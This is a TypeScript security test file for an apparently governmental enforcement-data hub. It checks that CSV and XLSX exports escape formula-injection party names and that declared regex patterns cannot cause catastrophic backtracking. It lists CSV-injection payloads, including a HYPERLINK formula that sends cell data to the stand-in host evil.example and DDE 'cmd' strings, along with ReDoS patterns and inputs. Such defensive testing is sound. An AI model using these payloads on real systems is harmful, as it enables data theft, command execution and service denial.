import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { ApiKeyScope, Role } from '@hub/shared-schema';
import { FOOD_MATTER, penalty, QINGYANG } from '../utils/fixtures';
import { exited, HubProcess } from '../utils/hub-process';
import { gqlAt, startHubProcessOn, startTestApp, TestApp } from '../utils/test-app';
import { eventually } from '../utils/wait';
import { recordAttacks } from './fault-figures';

const PUBLISH_PENALTY = `mutation($input: PenaltyDecisionInput!) { publishPenaltyDecision(input: $input) { outcome } }`;
const REQUEST = `mutation($input: RequestExportInput!) { requestExport(input: $input) { id } }`;
const JOB = `query($id: ID!) { exportJob(id: $id) { status error } }`;
const DOWNLOAD = `query($id: ID!) { exportDownloadUrl(id: $id) { url } }`;
const KIND = 'mutation($input: OtherInfoKindInput!) { saveOtherInfoKind(input: $input) { code } }';
const OTHER = `mutation($r: [OtherEnforcementInfoInput!]!) { publishOtherEnforcementInfos(records: $r) { accepted results { outcome error { code field } } } }`;
const VIEWER = '{ viewer { unitCode } }';

/** Party names a town could publish that a spreadsheet would run (CSV injection, as OWASP describes it). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=WEBSERVICE("http://evil.example/")',
  '＝1+1',
];

/** Declared patterns that backtrack catastrophically, each with a payload that would take hours (part 7). */
const CATASTROPHIC: Array<{ schema: Record<string, unknown>; payload: Record<string, unknown>; field: string }> = [
  {
    schema: { type: 'object', properties: { s: { type: 'string', pattern: '^(a+)+$' } } },
    payload: { s: `${'a'.repeat(40)}!` },
    field: 'payload.s',
  },
  {
    schema: { type: 'object', properties: { s: { type: 'string', pattern: '^(a|aa)+$' } } },
    payload: { s: `${'a'.repeat(60)}!` },
    field: 'payload.s',
  },
  {
    schema: { type: 'object', properties: { s: { type: 'string', pattern: '^(\\w+\\s?)*$' } } },
    payload: { s: `${'word '.repeat(12)}!` },
    field: 'payload.s',
  },
  {
    schema: { type: 'object', properties: { s: { type: 'string', pattern: '^(.*a){20}$' } } },
    payload: { s: 'a'.repeat(60) + 'b' },
    field: 'payload.s',
  },
  {
    schema: { type: 'object', patternProperties: { '^(a+)+$': { type: 'number' } } },
    payload: { ['a'.repeat(40)]: 'x', [`${'a'.repeat(40)}!`]: 1 },
    field: `payload.${'a'.repeat(40)}`,
  },
];

/** Patterns a linear-time engine cannot run: refused when the kind is declared. */
const UNSUPPORTED = ['^(?=.*\\d)\\w+$', '^(?!a)\\w+$', '^(a)\\1$', '(?<=\\$)\\d+'];

describe('security: exported formulas and declared patterns (fault)', () => {
  let api: TestApp;
  let hub: HubProcess;
  let admin: string;
  let qingyang: string;
  let statistician: string;

  beforeAll(async () => {
    api = await startTestApp({ HUB_DELIVERY_WORKER: 'false' });
    // Exports and publications run in a hub of their own: a blocked event loop there cannot block the test.
    hub = await startHubProcessOn(api, { DELIVERY_POLL_MS: '50' });
    admin = await api.userToken([Role.ADMIN], 'joint-meeting-office');
    await api.gql(
      'mutation($input: DevolvedMatterInput!) { saveDevolvedMatter(input: $input) { code } }',
      { input: FOOD_MATTER },
      { credential: admin },
    );
    qingyang = await api.apiKey(QINGYANG, [ApiKeyScope.PUBLISH, ApiKeyScope.READ]);
    statistician = await api.userToken([Role.STATISTICIAN], 'dept-justice');
  }, 90_000);
  afterAll(async () => {
    // A hub whose event loop is held (the regression this file guards against) ignores SIGTERM.
    const kill = setTimeout(() => hub.child.kill('SIGKILL'), 10_000);
    hub.child.kill('SIGTERM');
    await exited(hub.child);
    clearTimeout(kill);
    await api.close();
  });

  async function exported(format: 'CSV' | 'XLSX'): Promise<string[][]> {
    const requested = await api.gql(REQUEST, { input: { format, records: { source: 'PENALTY' } } }, { credential: statistician });
    expect(requested.errors).toBeUndefined();
    const id = requested.data!.requestExport.id as string;
    const job = await eventually(
      async () => (await api.gql(JOB, { id }, { credential: statistician })).data!.exportJob,
      (j) => j.status === 'DONE' || j.status === 'FAILED',
      60_000,
    );
    expect(job).toEqual({ status: 'DONE', error: null });
    const file = await fetch((await api.gql(DOWNLOAD, { id }, { credential: statistician })).data!.exportDownloadUrl.url);
    const data = await file.arrayBuffer();
    // Cells exactly as the file holds them (a quoted carriage return included).
    if (format === 'CSV') {
      const rows: string[][] = parse(Buffer.from(data), { bom: true });
      return rows;
    }
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(data);
    return workbook.worksheets[0]
      .getSheetValues()
      .filter(Boolean)
      .map((row) => (row as unknown[]).slice(1).map((cell) => (typeof cell === 'string' ? cell : JSON.stringify(cell ?? ''))));
  }

  it('exports published text that starts a formula as text, in CSV and XLSX, and numbers as they were', async () => {
    for (const [i, partyName] of FORMULAS.entries()) {
      const answer = await api.gql(
        PUBLISH_PENALTY,
        { input: penalty(100 + i, { partyName, fineAmount: '5000.50' }) },
        { credential: qingyang },
      );
      expect([partyName, answer.errors]).toEqual([partyName, undefined]);
    }
    const mishandled: string[] = [];
    for (const format of ['CSV', 'XLSX'] as const) {
      const [header, ...rows] = await exported(format);
      const [name, fine, source] = ['当事人', '罚款金额（元）', '来源编号'].map((h) => header.indexOf(h));
      for (const [i, partyName] of FORMULAS.entries()) {
        const row = rows.find((r) => r[source] === penalty(100 + i).sourceId);
        // XML reads a carriage return back as a line feed: the quote in front is what matters.
        const expected = format === 'XLSX' ? `'${partyName.replace(/\r/g, '\n')}` : `'${partyName}`;
        if (!row || row[name] !== expected || Number(row[fine]) !== 5000.5)
          mishandled.push(`${format} ${JSON.stringify(partyName)}: ${JSON.stringify(row)}`);
      }
    }
    recordAttacks('security: formulas in exports', { tried: FORMULAS.length * 2, mishandled: mishandled.length });
    expect(mishandled).toEqual([]);
  }, 120_000);

  it('runs declared patterns in linear time: catastrophic payloads are refused while other requests go on', async () => {
    const mishandled: string[] = [];
    for (const [i, { schema }] of CATASTROPHIC.entries()) {
      const saved = await gqlAt(
        hub.url,
        KIND,
        { input: { code: `redos-${i}`, name: `回溯模式${i}`, jsonSchema: schema } },
        { credential: admin },
      );
      expect(saved.errors).toBeUndefined();
    }
    const records = CATASTROPHIC.flatMap(({ payload }, i) =>
      Array.from({ length: 20 }, (_, n) => ({ sourceId: `REDOS-${i}-${n}`, kindCode: `redos-${i}`, title: '回溯', payload })),
    );
    let done = false;
    const publishing = gqlAt(hub.url, OTHER, { r: records }, { credential: qingyang }).finally(() => (done = true));
    // While the batch is validated the hub keeps answering: a backtracking engine would hold its event
    // loop for hours on any one of these payloads, and this cheap query would not come back.
    let answered = 0;
    do {
      const viewer = await fetch(`${hub.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${qingyang}` },
        body: JSON.stringify({ query: VIEWER }),
        signal: AbortSignal.timeout(10_000), // a liveness bound: a blocked hub never answers
      });
      expect(((await viewer.json()) as any).data?.viewer.unitCode).toBe(QINGYANG);
      answered++;
    } while (!done);
    expect(answered).toBeGreaterThan(0);
    const result = (await publishing).data!.publishOtherEnforcementInfos;
    expect(result.accepted).toBe(0);
    for (const [index, r] of (result.results as any[]).entries()) {
      const expected = CATASTROPHIC[Math.floor(index / 20)].field;
      if (r.outcome !== 'REJECTED' || r.error?.code !== 'BAD_USER_INPUT' || r.error.field !== expected)
        mishandled.push(`${records[index].sourceId}: ${JSON.stringify(r)}`);
    }
    for (const [i, pattern] of UNSUPPORTED.entries()) {
      const refused = await gqlAt(
        hub.url,
        KIND,
        { input: { code: `unsupported-${i}`, name: '不支持的模式', jsonSchema: { type: 'string', pattern } } },
        { credential: admin },
      );
      if (refused.errors?.[0]?.extensions?.code !== 'BAD_USER_INPUT' || refused.errors[0].extensions.field !== 'input.jsonSchema')
        mishandled.push(`${pattern}: ${JSON.stringify(refused.errors ?? refused.data)}`);
    }
    const format = await gqlAt(
      hub.url,
      KIND,
      { input: { code: 'format-regex', name: '正则格式', jsonSchema: { type: 'string', format: 'regex' } } },
      { credential: admin },
    );
    if (format.errors?.[0]?.extensions?.code !== 'BAD_USER_INPUT')
      mishandled.push(`format: regex: ${JSON.stringify(format.errors ?? format.data)}`);
    recordAttacks('security: declared patterns', { tried: records.length + UNSUPPORTED.length + 1, mishandled: mishandled.length });
    expect(mishandled).toEqual([]);
  }, 60_000);

  it('still validates with ordinary patterns, Chinese ranges and patternProperties included', async () => {
    const schema = {
      type: 'object',
      properties: {
        township: { type: 'string', pattern: '^350582\\d{3}$' },
        name: { type: 'string', pattern: '^[\\u4e00-\\u9fa5]{2,10}$' },
      },
      patternProperties: { '^x-': { type: 'number' } },
    };
    expect(
      (await gqlAt(hub.url, KIND, { input: { code: 'patterned', name: '模式校验', jsonSchema: schema } }, { credential: admin })).errors,
    ).toBeUndefined();
    const result = (
      await gqlAt(
        hub.url,
        OTHER,
        {
          r: [
            { sourceId: 'PAT-1', kindCode: 'patterned', title: '合规', payload: { township: '350582001', name: '青阳街道', 'x-count': 3 } },
            { sourceId: 'PAT-2', kindCode: 'patterned', title: '编码不对', payload: { township: '350583001' } },
            { sourceId: 'PAT-3', kindCode: 'patterned', title: '名称不对', payload: { name: 'Qingyang' } },
            { sourceId: 'PAT-4', kindCode: 'patterned', title: '扩展字段不对', payload: { 'x-count': 'three' } },
          ],
        },
        { credential: qingyang },
      )
    ).data!.publishOtherEnforcementInfos;
    expect(result.accepted).toBe(1);
    expect(result.results.map((r: any) => r.error)).toEqual([
      null,
      { code: 'BAD_USER_INPUT', field: 'payload.township' },
      { code: 'BAD_USER_INPUT', field: 'payload.name' },
      { code: 'BAD_USER_INPUT', field: 'payload.x-count' },
    ]);
  });
});
